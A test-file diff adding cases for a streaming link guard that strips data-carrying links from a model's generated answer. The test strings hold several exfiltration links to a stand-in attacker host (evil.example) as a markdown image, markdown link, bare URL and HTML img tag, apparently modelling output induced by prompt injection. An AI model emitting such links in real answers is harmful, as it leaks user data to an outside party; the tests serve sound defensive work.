@@ -12,6 +12,7 @@ import {
   guardAnswer,
   guardPassages,
   type InjectionKind,
+  StreamLinkGuard,
 } from '../../src/generate/guard.js';
 import { Trace } from '../../src/observability/trace.js';
 import { RequestContext } from '../../src/stage.js';
@@ -181,5 +182,45 @@ describe('guardAnswer', () => {
     expect(carriesData('https://a.example/x#section-2')).toBe(false);
     expect(carriesData('https://a.example/x#d=secret')).toBe(true);
     expect(carriesData('not a url')).toBe(false);
+  });
+});
+
+describe('StreamLinkGuard', () => {
+  const sources = [source(1, 'See https://example.org/guide?page=2.')];
+  const stream = (deltas: string[]): string[] => {
+    const g = new StreamLinkGuard(sources);
+    const out = deltas.map((d) => g.push(d));
+    out.push(g.end());
+    return out;
+  };
+
+  it('never releases an exfiltration link, however the stream splits it', () => {
+    const answer =
+      'Refunds take five days [1]. ![status](https://evil.example/p.png?q=refund) ' +
+      'See [the form](https://evil.example/f?d=abc). Or https://evil.example/x?leak=1 and <img src="https://evil.example/i?c=s"> end.';
+    for (const size of [1, 2, 3, 5, 8, 13, 1000]) {
+      const deltas = answer.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g'))!;
+      const out = stream(deltas);
+      for (const piece of out) expect(piece).not.toContain('evil.example');
+      expect(out.join(''), `size ${size}`).toBe(
+        'Refunds take five days [1]. status See the form. Or [link removed] and [link removed] end.',
+      );
+    }
+  });
+
+  it('releases ordinary text as it comes, holding only what may become a link', () => {
+    expect(stream(['Refunds ', 'take ', 'five days [1', ']. Done.'])).toEqual([
+      'Refunds ',
+      'take ',
+      'five days ',
+      '[1]. Done.',
+      '',
+    ]);
+    // A URL the sources contain is kept; text after a URL waits only for the URL to end.
+    expect(stream(['Read https://exam', 'ple.org/guide?page=2 ', 'first.']).join('')).toBe(
+      'Read https://example.org/guide?page=2 first.',
+    );
+    // "a < b" is not a tag, CJK text without spaces is not held.
+    expect(stream(['a < b ', '退款五天内'])).toEqual(['a < b ', '退款五天内', '']);
   });
 });
